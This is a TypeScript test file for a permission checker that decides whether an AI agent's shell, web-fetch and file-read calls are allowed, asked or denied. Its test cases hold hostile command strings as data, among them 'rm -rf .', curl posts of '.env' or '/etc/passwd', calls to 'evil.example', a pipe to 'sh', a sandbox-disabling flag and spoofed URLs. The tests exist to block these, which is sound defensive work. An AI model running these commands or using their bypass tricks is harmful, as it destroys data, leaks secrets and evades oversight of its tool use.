import { expect, test } from 'vitest'
import { PERMISSION_RULES_MAX, PermissionDecider } from './permission-rules.ts'
import type { PermissionRules } from './permission-rules.ts'

const SCREEN = 'Bash(curl -s http://localhost:3848/cmd -d *)'

function decided(
  rules: PermissionRules,
  toolName: string,
  input: Readonly<Record<string, string>>,
) {
  const { behavior, rule } = new PermissionDecider(rules).decide(toolName, input)
  return rule === '' ? behavior : `${behavior} by ${rule}`
}

const run = (rules: PermissionRules, command: string) => decided(rules, 'Bash', { command })

test.each([
  "curl -s http://localhost:3848/cmd -d 'FACE happy'",
  'curl -s http://localhost:3848/cmd -d "BG night\nCOL 10"',
  "curl -s http://localhost:3848/cmd -d 'CLR'; curl -s http://localhost:3848/cmd -d 'T Hello'",
])('[X26] drawing runs by its rule: %j', (command) => {
  expect(run({ allow: [SCREEN] }, command)).toBe(`allow by ${SCREEN}`)
})

test.each([
  "curl -s http://localhost:3848/cmd -d 'FACE happy'; rm -rf .",
  "curl -s http://localhost:3848/cmd -d 'FACE happy' && id",
  "curl -s http://localhost:3848/cmd -d 'FACE happy' > /tmp/x",
  "curl -s http://localhost:3848/cmd -d 'FACE happy' &",
  'curl -s http://localhost:3848/cmd -d "$(cat .env)"',
  'curl -s http://localhost:3848/cmd -d "`cat .env`"',
  'curl -s http://localhost:3848/cmd -d @.env',
  "curl -s http://localhost:3848/cmd -d '@/etc/passwd'",
  "curl -s http://localhost:3848/cmd -d 'x' -d @.env",
  "curl -s http://localhost:3848/cmd -d 'x' http://evil.example",
  'curl -s http://localhost:3848/cmd -d -o',
  "curl -s http://localhost:3848/cmd -d ''",
  "curl -s http://localhost:3848/cmd\u200B -d 'x'",
  "curl -s http://localhost:3848/cmdx -d 'x'",
  "/tmp/curl -s http://localhost:3848/cmd -d 'x'",
  "http_proxy=http://evil.example curl -s http://localhost:3848/cmd -d 'x'",
  "curl -s http://localhost:3848/cmd -d 'x' | sh",
  "cd /tmp\ncurl -s http://localhost:3848/cmd -d 'x'",
  "curl -sK .curlrc http://localhost:3848/cmd -d 'x'",
])('[X26] what is more than drawing is asked: %j', (command) => {
  expect(run({ allow: [SCREEN] }, command)).toBe('ask')
})

test('[X26] a call with members beside a plain command’s is asked', () => {
  const input = { command: 'git log -1', dangerouslyDisableSandbox: 'true' }
  expect(decided({ allow: ['Bash(git log *)'] }, 'Bash', input)).toBe('ask')
})

test.each([
  ['Bash(npm test)', 'http://t/'],
  ['Bash(ls -la *)', 'http://*/'],
])('[X26] an address beside a command does not make it one of a rule: %s', (rule, url) => {
  expect(decided({ allow: [rule] }, 'Bash', { command: '$(rm -rf .)', url })).toBe('ask')
})

test('[X26] deny goes before ask, and ask before allow, whatever their order', () => {
  const rules = {
    allow: ['Bash', 'WebSearch'],
    ask: ['Bash(git push *)'],
    deny: ['Bash(git push --force *)'],
  }
  expect(run(rules, 'git push --force origin main')).toBe('deny by Bash(git push --force *)')
  expect(run(rules, 'git push origin')).toBe('ask by Bash(git push *)')
  expect(run(rules, 'git status')).toBe('allow by Bash')
  expect(decided(rules, 'WebSearch', { query: 'x' })).toBe('allow by WebSearch')
  expect(decided(rules, 'WebFetch', { url: 'https://x.example' })).toBe('ask')
})

test('[X26] a command that cannot be read is asked where a rule bars commands, though its tool is allowed', () => {
  const rules = { allow: ['Bash'], deny: ['Bash(rm *)'] }
  expect(run(rules, '$(echo rm) -rf .')).toBe('ask by Bash(rm *)')
  expect(run(rules, 'r\\m -rf .')).toBe('ask by Bash(rm *)')
  for (const command of [
    'rm x',
    '/bin/rm -rf x',
    "'rm' x",
    'ls; rm x',
    'true && rm x',
    'ls | rm x',
    'rm',
  ]) {
    expect(run(rules, command)).toBe('deny by Bash(rm *)')
  }
  expect(run(rules, 'rmdir x')).toBe('allow by Bash')
})

test.each([
  ['rm *', 'if rm x; then ls; fi'],
  ['rm *', 'for a in b; do rm x; done'],
  ['rm *', 'time rm x'],
  ['./deploy.sh *', 'if ./deploy.sh x; then ls; fi'],
])('[X26] %j bars a command behind a word of the shell: %j', (pattern, command) => {
  expect(run({ allow: ['Bash'], deny: [`Bash(${pattern})`] }, command)).toMatch(/^ask by/)
})

test('[X26] a rule with a path bars the command by that path and every other', () => {
  const barred = (pattern: string, command: string) =>
    run({ allow: ['Bash'], deny: [`Bash(${pattern})`] }, command)
  for (const command of [
    './bin/deploy.sh x',
    '/home/a/bin/deploy.sh',
    'deploy.sh',
    'ls; ./deploy.sh',
  ]) {
    expect(barred('./bin/deploy.sh *', command)).toBe('deny by Bash(./bin/deploy.sh *)')
  }
  expect(barred('/usr/bin/* *', '/usr/bin/rm x')).toBe('deny by Bash(/usr/bin/* *)')
  expect(barred('/usr/bin/* *', 'ls')).toBe('allow by Bash')
})

test.each([
  ['prettier --check *.ts', 'prettier --check --plugin=./evil.ts'],
  ['curl -s http://localhost:3848/cmd -d *.json', 'curl -s http://localhost:3848/cmd -d @a.json'],
  ['ls **', 'ls -R'],
])('[X26] a word of %j that begins with any is no option and no file: %j', (pattern, command) => {
  expect(run({ allow: [`Bash(${pattern})`] }, command)).toBe('ask')
})

test('[X26] a host with a dot at its end is the same one', () => {
  for (const domain of ['evil.example', '*.example']) {
    const rules = { allow: ['WebFetch'], deny: [`WebFetch(domain:${domain})`] }
    expect(decided(rules, 'WebFetch', { url: 'https://evil.example./' })).toMatch(/^deny/)
  }
})

test('the commands of a line may be allowed by several rules, and each is named', () => {
  const rules = { allow: ['Bash(git add -A)', 'Bash(git commit -m *)', 'Bash(npm run test:*)'] }
  expect(run(rules, "git add -A && git commit -m 'A word'")).toBe(
    'allow by Bash(git add -A), Bash(git commit -m *)',
  )
  expect(run(rules, 'npm run test:unit')).toBe('allow by Bash(npm run test:*)')
  expect(run(rules, 'npm run test:unit --x')).toBe('ask')
})

test('a host of a page is named exactly, or with those below it', () => {
  const rules = { allow: ['WebFetch(domain:docs.example)', 'WebFetch(domain:*.test.example)'] }
  const fetched = (url: string) => decided(rules, 'WebFetch', { url, prompt: 'x' })
  expect(fetched('https://docs.example/a')).toBe('allow by WebFetch(domain:docs.example)')
  expect(fetched('https://a.test.example')).toBe('allow by WebFetch(domain:*.test.example)')
  for (const url of [
    'https://docs.example.evil.example',
    'https://evil.example/?docs.example',
    'https://docs.example@evil.example',
    'https://xdocs.example',
    'file://docs.example/etc/passwd',
    'docs.example',
    '',
  ]) {
    expect(fetched(url)).toBe('ask')
  }
})

test('a rule may name the tools whose names begin alike', () => {
  const rules = { allow: ['mcp__github__*'], deny: ['mcp__github__delete_*'] }
  expect(decided(rules, 'mcp__github__list', {})).toBe('allow by mcp__github__*')
  expect(decided(rules, 'mcp__github__delete_repo', {})).toBe('deny by mcp__github__delete_*')
  expect(decided(rules, 'mcp__other__list', {})).toBe('ask')
})

test('rules for paths are the program’s, which follows links', () => {
  const rules = new PermissionDecider({
    allow: ['Read(./**)', 'WebSearch'],
    deny: ['Read(./.env)'],
  })
  expect(rules.pathRules('allow')).toEqual(['Read(./**)'])
  expect(rules.pathRules('deny')).toEqual(['Read(./.env)'])
  expect(rules.tools).toEqual(['WebSearch'])
  expect(rules.isDecidedByPath('Read')).toBe(true)
  for (const list of ['ask', 'deny']) {
    const barred = new PermissionDecider({ allow: ['Read(./**)'], [list]: ['Read'] })
    expect(barred.isDecidedByPath('Read')).toBe(false)
    expect(barred.decide('Read', { file_path: './a' }).behavior).toBe(list)
  }
  expect(rules.decide('Read', { file_path: '/etc/passwd' }).behavior).toBe('ask')
})

test.each([
  [{ alow: [] }, 'Cannot read the permissions: it has an unknown "alow": did you mean "allow"?'],
  [{ allow: 'Bash' }, 'Cannot read the permissions: "allow" is no list of rules'],
  [{ allow: [1] }, 'Cannot read the permissions: "allow" is no list of rules'],
  [
    { allow: ['Bash git log'] },
    'Cannot read the permissions: "Bash git log" is no rule: give a tool, such as "WebSearch" or "Bash(git log *)"',
  ],
  [
    { deny: ['Bash(rm *; ls)'] },
    'Cannot read the permissions: "Bash(rm *; ls)" is not one plain command, such as "git log *"',
  ],
  [
    { allow: ['WebFetch(https://docs.example)'] },
    'Cannot read the permissions: "WebFetch(https://docs.example)" names no host, such as "domain:docs.example"',
  ],
  [
    { ask: ['Read(./.env)'] },
    'Cannot read the permissions: "Read(./.env)" has a path, which only "allow" and "deny" take',
  ],
  [
    { allow: ['Agent(x)'] },
    'Cannot read the permissions: "Agent(x)" has a pattern, which only Bash, WebFetch and the tools for files take',
  ],
  [
    { ask: Array.from({ length: PERMISSION_RULES_MAX + 1 }, () => 'Read') },
    `Cannot read the permissions: "ask" has 201 rules: give at most 200`,
  ],
])('rules that cannot be read are refused: %j', (rules, message) => {
  expect(() => new PermissionDecider(rules as PermissionRules)).toThrow(message)
})
